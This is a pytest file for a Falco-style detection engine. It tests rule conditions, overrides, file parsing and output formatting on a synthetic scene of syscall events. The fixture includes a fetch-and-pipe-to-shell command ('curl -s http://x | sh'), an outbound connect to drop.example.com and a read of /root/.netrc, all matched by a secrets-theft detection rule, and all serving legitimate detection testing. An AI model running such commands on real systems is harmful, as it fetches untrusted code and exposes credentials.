"""Files of Falco's language as their users write them: loaded, and judged on events."""

from __future__ import annotations

import errno
from pathlib import Path

import pytest

from hullwatch.detect.accounts import HostAccounts, User
from hullwatch.detect.engine import Engine
from hullwatch.detect.ruleset import RuleSet, load, load_texts
from hullwatch.detect.scene import Scene
from hullwatch.sensor.wire import Class
from support.rowwise import meets

ACCOUNTS = HostAccounts({0: User("root", "/root", "/bin/sh")}, {0: "root"})
TCP = 2 << 16 | 1 << 8 | 6


def scene() -> Scene:
    """Row 0: an open for reading; 1: an exec; 2: a connect; 3: a rename; 4: an open that failed."""
    made = Scene()
    web = made.container(
        image="acme/web:7", name="web", namespace="shop", pod="web-0", labels={"app": "web"}
    )
    nginx = made.process("nginx", workload=web, argv=("nginx", "-g", "daemon off;"))
    shell = made.process(
        "bash", parent=nginx, argv=("/bin/bash", "-c", "curl -s http://x | sh"), tty=34816
    )
    curl = made.process("curl", parent=shell, argv=("curl", "-s", "http://x", "Zm9v"), cwd="/tmp")
    made.event(
        Class.OPEN,
        curl,
        call="openat",
        obj=made.string("/etc/ssl/Cert.pem"),
        obj2=made.string("../etc/ssl/Cert.pem"),
        ret=3,
    )
    made.event(Class.EXEC, curl, call="execve", obj=made.string("/usr/bin/curl"))
    made.event(
        Class.CONNECT,
        curl,
        call="connect",
        obj=made.address("203.0.113.9:443"),
        obj2=made.address("10.0.0.9"),
        port=40000,
        flags=TCP,
        ret=-errno.EINPROGRESS,
        name="drop.example.com",
    )
    made.event(
        Class.RENAME,
        shell,
        call="renameat2",
        obj=made.string("/srv/a b"),
        obj2=made.string("/srv/c"),
    )
    made.event(
        Class.OPEN, curl, call="openat", obj=made.string("/root/.netrc"), ret=-errno.EACCES, flags=2
    )
    return made


def rule(condition: str, more: str = "", name: str = "r") -> str:
    return (
        f"- rule: {name}\n  desc: d\n  priority: notice\n  output: o\n"
        f"  condition: >-\n    {condition}\n{more}"
    )


def loaded(*texts: str) -> RuleSet:
    rules = load_texts([(text, f"{number}.yaml") for number, text in enumerate(texts)])
    assert not rules.errors, [str(error) for error in rules.errors]
    return rules


def rows(rules: RuleSet, name: str = "r") -> list[int]:
    """The rows of the scene that meet the rule, as the engine has it and as the plain walk does."""
    engine, enriched = Engine(rules, ACCOUNTS), scene().enriched()
    found = sum(match.count for match in engine.match(enriched) if match.rule.name == name)
    engine.env.wall_offset = int(enriched.batch.wall_offset)
    tree = rules.rule(name).condition
    plain = [at for at in range(5) if meets(tree, engine.row(enriched, at), engine.env)]
    assert len(plain) == found
    return plain


@pytest.mark.parametrize(
    ("condition", "expected"),
    [
        # Each operator, on both sides of its edge.
        ("evt.type = openat", [0, 4]),
        ("evt.type == openat", [0, 4]),
        ("evt.type in (openat, connect) and proc.name != curl", []),
        ("evt.type=connect and fd.sport < 443", []),
        ("evt.type=connect and fd.sport <= 443", [2]),
        ("evt.type=connect and fd.sport > 442", [2]),
        ("evt.type=connect and fd.sport >= 0x1bb", [2]),
        ("evt.type=openat and fd.name contains ssl/", [0]),
        ("evt.type=openat and fd.name contains SSL/", []),
        ("evt.type=openat and fd.name icontains SSL/", [0]),
        ("evt.type=openat and fd.name startswith /root", [4]),
        ("evt.type=openat and fd.name endswith .pem", [0]),
        ("evt.type=openat and fd.name glob '/etc/*/?ert.pem'", [0]),
        ("evt.type=openat and fd.name glob '/ETC/*'", []),
        ("evt.type=openat and fd.name iglob '/ETC/*'", [0]),
        ("evt.type=openat and fd.name regex '/[a-z]+/[.]net.*'", [4]),
        ("evt.type=openat and fd.name regex /[a-z]+/\\.net.*", [4]),
        ("evt.type=openat and fd.name regex '[.]net.*'", []),
        ("evt.type=openat and fd.name pmatch (/etc, /var)", [0]),
        ("evt.type=openat and fd.name pmatch (/et)", []),
        ("evt.type=openat and fd.name in (/root/.netrc, '/x y')", [4]),
        ("evt.type=openat and proc.aname intersects (nginx, apache)", [0, 4]),
        ("evt.type=openat and fd.nameraw exists", [0, 4]),
        ("evt.type=connect and not fd.cip.name exists", [2]),
        ("evt.type=connect and fd.sip = 203.0.113.9", [2]),
        ("evt.type=connect and fd.ip = 10.0.0.9", [2]),
        ("evt.type=connect and fd.net = 203.0.113.0/24", [2]),
        ("evt.type=connect and fd.snet in ('10.0.0.0/8', 203.0.113.0/30)", []),
        ("evt.type=connect and fd.port = 40000", [2]),
        ("evt.type=connect and fd.sip.name endswith .example.com", [2]),
        # List modifiers.
        ("evt.type=openat and fd.name startswith anyof (/etc, /root)", [0, 4]),
        ("evt.type=openat and fd.name contains allof (etc, Cert)", [0]),
        ("evt.type=openat and fd.name contains oneof (etc, Cert)", []),
        # Transformers, alone and inside each other.
        ("evt.type=openat and tolower(fd.name) = /etc/ssl/cert.pem", [0]),
        ("evt.type=openat and toupper(basename(fd.name)) = CERT.PEM", [0]),
        ("evt.type=openat and len(basename(fd.name)) = 8", [0]),
        ("evt.type=connect and concat(fd.sip, ':', fd.sport) = '203.0.113.9:443'", [2]),
        ("evt.type=openat and join('<', proc.aname) startswith 'bash<nginx'", [0, 4]),
        ("evt.type=openat and fd.nameraw != val(fd.name)", [0]),
        # Fields with arguments, in both forms.
        ("evt.type=openat and proc.aname[2] = nginx", [0, 4]),
        ("evt.type=openat and proc.aname[0] = curl and proc.acmdline[1] contains '| sh'", [0, 4]),
        ("evt.type=openat and evt.arg.flags contains O_RDWR", [4]),
        ("evt.type=openat and evt.arg[flags] contains O_RDWR", [4]),
        ("evt.type=openat and evt.rawarg.flags = 2", [4]),
        ("evt.type=openat and evt.arg.res = EACCES", [4]),
        ("evt.type=openat and evt.rawarg.res < 0", [4]),
        ("evt.type=renameat2 and evt.arg.oldpath = '/srv/a b'", [3]),
        ("evt.type=renameat2 and evt.args contains 'newpath=/srv/c'", [3]),
        ("evt.type=openat and container.label[app] = web", [0, 4]),
        ("evt.type=openat and k8s.ns.name = shop and k8s.pod.name = web-0", [0, 4]),
        # Structure and quoting.
        ("evt.type=openat and not (not (fd.name=/root/.netrc))", [4]),
        ("not not evt.type=openat", [0, 4]),
        ("evt.type=openat and (fd.name=/x or (fd.name=/root/.netrc and user.name=root))", [4]),
        ('evt.type=execve and proc.args = "-s http://x Zm9v"', [1]),
        ("evt.type=openat and proc.pcmdline contains ' | '", [0, 4]),
        ('evt.type=openat and proc.pcmdline startswith "bash -c \\"curl"', []),
        ("evt.type=openat and proc.name in ()", []),
        ("evt.type=openat and proc.tty != 0", []),
    ],
)
def test_conditions(condition: str, expected: list[int]) -> None:
    rules = load_texts([(rule(condition, "  warn_evttypes: false\n"), "c.yaml")])
    assert not rules.errors, [str(error) for error in rules.errors]
    assert rows(rules) == expected


USERS_FILE = """
- required_engine_version: 0.31.0
- required_plugin_versions: [{name: container, version: 0.2.4}]

- list: tls_dirs
  items: [/etc/ssl, /etc/pki]
- list: secret_dirs
  items: [tls_dirs, /root]
- list: downloaders
  items: ["curl", 'wget', '"my curl"']

- macro: reads
  condition: (evt.type in (open, openat) and evt.is_open_read=true)
- macro: downloader
  condition: (proc.name in (downloaders))

- rule: Secrets read by a downloader
  desc: >
    Text over
    two lines.
  condition: reads and downloader and fd.directory pmatch (secret_dirs)
  output: >
    secret read (file=%fd.name
    command=%proc.cmdline)
  priority: Warning
  source: syscall
  tags: [filesystem, T1552]
  exceptions:
    - name: programs
      fields: proc.name
      values: [wget]
    - name: file_of_image
      fields: [container.image.repository, fd.name]
      comps: [=, startswith]
      values:
        - [acme/backup, /root]
        - [acme/web, /root]
    - name: parents
      fields: [proc.pname, fd.name]
      comps: [in, in]
      values: [[[make, cmake], [/etc/ssl/a, /etc/ssl/b]]]
"""


def test_a_users_file_and_what_others_change_in_it() -> None:
    name = "Secrets read by a downloader"
    assert rows(loaded(USERS_FILE), name) == [0]
    for change, expected in (
        ("- list: downloaders\n  items: [lynx]\n", []),
        ("- list: tls_dirs\n  items: [/srv]\n  override: {items: replace}\n", []),
        ("- list: tls_dirs\n  items: [/srv]\n  override: {items: append}\n", [0]),
        ("- list: tls_dirs\n  append: true\n  items: [/srv]\n", [0]),
        ("- macro: downloader\n  condition: (proc.name=nobody)\n", []),
        (
            "- macro: downloader\n  condition: and proc.tty=7\n  override: {condition: append}\n",
            [],
        ),
        (
            f"- rule: {name}\n  exceptions:\n    - name: programs\n      values: [curl]\n"
            "  override: {exceptions: append}\n",
            [],
        ),
        (
            f"- rule: {name}\n  append: true\n  exceptions:\n    - name: file_of_image\n"
            "      values: [[acme/web, /etc]]\n",
            [],
        ),
        (f"- rule: {name}\n  exceptions: []\n  override: {{exceptions: replace}}\n", [0, 4]),
        (
            f"- rule: {name}\n  condition: evt.type=connect\n  override: {{condition: replace}}\n",
            [2],
        ),
        (f"- rule: {name}\n  append: true\n  condition: and fd.num < 0\n", []),
    ):
        assert rows(loaded(USERS_FILE, change), name) == expected, change


def test_every_key_that_can_be_changed() -> None:
    name = "Secrets read by a downloader"
    change = (
        f"- rule: {name}\n  desc: New.\n  output: more %evt.type\n  priority: critical\n"
        "  tags: [x]\n  enabled: false\n  warn_evttypes: false\n  skip-if-unknown-filter: true\n"
        "  override: {desc: replace, output: append, priority: replace, tags: append,\n"
        "             enabled: replace, warn_evttypes: replace, skip-if-unknown-filter: replace}\n"
    )
    one = loaded(USERS_FILE, change).rule(name)
    assert (one.desc, one.priority, one.enabled) == ("New.", "CRITICAL", False)
    assert one.tags == ("filesystem", "T1552", "x")
    assert one.definition.output.endswith("command=%proc.cmdline) more %evt.type")
    on_again = loaded(USERS_FILE, change, f"- rule: {name}\n  enabled: true\n")
    assert rows(on_again, name) == [0]
    whole = loaded(USERS_FILE, rule("evt.type=connect", name=name))
    assert rows(whole, name) == [2] and whole.rule(name).tags == ()
    switched_off = loaded(USERS_FILE, f"- rule: {name}\n  enabled: false\n")
    assert not Engine(switched_off, ACCOUNTS).match(scene().enriched())


def test_forms_of_files(tmp_path: Path) -> None:
    """Line ends of Windows, a byte order mark, several documents, anchors, comments, UTF-8."""
    text = (
        "# Prüfung\n---\n- list: names\n  items: &names [curl, bash]\n"
        "- list: again\n  items: *names\n---\n"
        "- macro: m # a remark\n  condition: |\n    evt.type = openat   # not a comment here\n"
    )
    assert "'m'" in str(load_texts([(text + rule("m"), "x.yaml")]).errors[0])
    text = text.replace("   # not a comment here", "\n    and proc.name in (again)")
    text += rule("m and fd.name != '/tmp/ü\u202e'").replace("output: o", "output: „o“ %fd.name")
    for number, form in enumerate((text, text.replace("\n", "\r\n"), "\ufeff" + text)):
        path = tmp_path / f"{number}.yaml"
        path.write_bytes(form.encode())
        rules = load([path])
        assert not rules.errors, [str(error) for error in rules.errors]
        assert rows(rules) == [0, 4]


@pytest.mark.parametrize(
    ("text", "place", "said"),
    [
        ("- required_engine_version: 999\n", ":1:", "compatible with 0.57.0"),
        ("- required_engine_version: 0.99.0\n", ":1:", "compatible with 0.57.0"),
        ("- required_plugin_versions: [{name: cloudtrail, version: 1.0.0}]\n", ":1:", "cloudtrail"),
        (rule("evt.type=openat", "  source: aws_cloudtrail\n"), ":7:", "aws_cloudtrail"),
        (rule("evt.type=openat", "  source: k8s_audit\n"), ":7:", "k8s_audit"),
        (rule("evt.type=openat and fd.fancy = 1"), ":6:", "'fd.fancy'"),
        (rule("evt.type=openat and proc.nthreads > 3"), ":6:", "'proc.nthreads'"),
        (rule("evt.type=openat and evt.buffer contains x"), ":6:", "'evt.buffer'"),
        (rule("evt.type=openat and evt.arg[0] = 1"), ":6:", "evt.arg.NAME"),
        (rule("evt.type=openat and fd.name sounds_like x"), ":6:", "expected an operator"),
        (rule("evt.type=openat and md5(fd.name) = x"), ":6:", "'md5'"),
        (rule("evt.type=openat").replace("output: o", "output: '%no.such'"), ":4:", "'no.such'"),
        (
            rule("evt.type=openat").replace("output: o", "output: '%proc.vmsize'"),
            ":4:",
            "'proc.vmsize'",
        ),
    ],
)
def test_what_cannot_be_had_is_refused_by_name(text: str, place: str, said: str) -> None:
    rules = load_texts([(text + rule("evt.type=connect", name="good"), "f.yaml")])
    told = [str(error) for error in rules.errors]
    assert len(told) == 1 and said in told[0] and place in told[0], told
    assert told[0].startswith("f.yaml:")
    if "required_engine" in text:
        assert not rules.rules  # the file as a whole
    else:
        assert [one.name for one in rules.rules] == ["good"]


@pytest.mark.parametrize(
    ("output", "line"),
    [
        ("file=%fd.name", "file=/etc/ssl/Cert.pem"),
        ("*%fd.name", "/etc/ssl/Cert.pem"),
        ("*file=%fd.name none=%fd.sip", "file=/etc/ssl/Cert.pem none=<NA>"),
        ("%proc.aname[2]>%proc.aname[1]>%proc.name", "nginx>bash>curl"),
        ("%proc.aname[9]", "<NA>"),
        ("(%evt.arg.flags|%evt.arg[flags]|%evt.rawarg.flags)", "(O_RDONLY|O_RDONLY|0)"),
        ("%evt.time.iso8601", "2023-11-14T22:13:20.000000000+0000"),
        ("100%% of %%fd.name", "100% of %fd.name"),
        ("50% done %", "50% done %"),
        ("[%8proc.name][%2proc.name]", "[curl    ][cu]"),
        ("%toupper(proc.name)-%basename(fd.name)", "CURL-Cert.pem"),
        ("%container.info", "container_id=000000000000 container_name=web"),
        ("%container.label[app] %k8s.ns.name", "web shop"),
        ("%user.name.", "root."),
        ("%evt.type,%evt.res", "openat,SUCCESS"),
        ("a\\nb %proc.pcmdline", "a\\nb bash -c curl -s http://x | sh"),
    ],
)
def test_outputs(output: str, line: str) -> None:
    quoted = output.replace("'", "''")
    rules = loaded(rule("evt.type=openat").replace("output: o", f"output: '{quoted}'"))
    engine, enriched = Engine(rules, ACCOUNTS), scene().enriched()
    engine.env.wall_offset = int(enriched.batch.wall_offset)
    found, _ = rules.rules[0].output.fill(engine.row(enriched, 0), engine.env)
    assert found == line


def test_skip_if_unknown_filter_is_said_and_kept_to_its_rule() -> None:
    text = rule("evt.type=openat and new.field=1", "  skip-if-unknown-filter: true\n", "new")
    rules = loaded(text + rule("evt.type=openat"))
    assert [one.name for one in rules.rules] == ["r"]
    assert any("new.field" in str(warning) for warning in rules.warnings)
